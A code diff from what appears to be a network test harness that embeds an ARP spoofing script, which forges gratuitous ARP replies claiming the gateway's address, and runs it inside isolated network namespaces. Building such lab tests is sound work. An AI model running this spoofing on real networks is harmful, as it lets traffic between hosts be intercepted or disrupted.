@@ -34,10 +34,10 @@ packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
 for card in [name for _, name in socket.if_nameindex() if name != "lo"]:
     packet.bind((card, 0x0806))
     me = packet.getsockname()[4]
-    address, gateway = (socket.inet_aton(os.environ[x]) for x in ("M_VICTIM", "M_GATEWAY"))
+    gateway = socket.inet_aton(os.environ["M_GATEWAY"])
     for _ in range(20):
         packet.send(b"\\xff" * 6 + me + bytes.fromhex("0806 0001 0800 0604 0002") + me + gateway
-                    + b"\\xff" * 6 + address)
+                    + me + gateway)
         time.sleep(0.05)
 """
 GATEWAY, VICTIM = "10.99.9.1", "10.99.9.2"
@@ -99,7 +99,7 @@ neigh replace {GATEWAY} lladdr 02:00:00:00:00:01 dev eth0 nud stale
     subprocess.run(ip, input=made, text=True, check=True, capture_output=True)
     enter = ["nsenter", "--net", "--target", str(victim)]
     subprocess.run([*enter, *ip], input=inside, text=True, check=True, capture_output=True)
-    yard.facts.update(M_VICTIM=VICTIM, M_GATEWAY=GATEWAY)
+    yard.facts["M_GATEWAY"] = GATEWAY
     yard.enter = enter
 
 
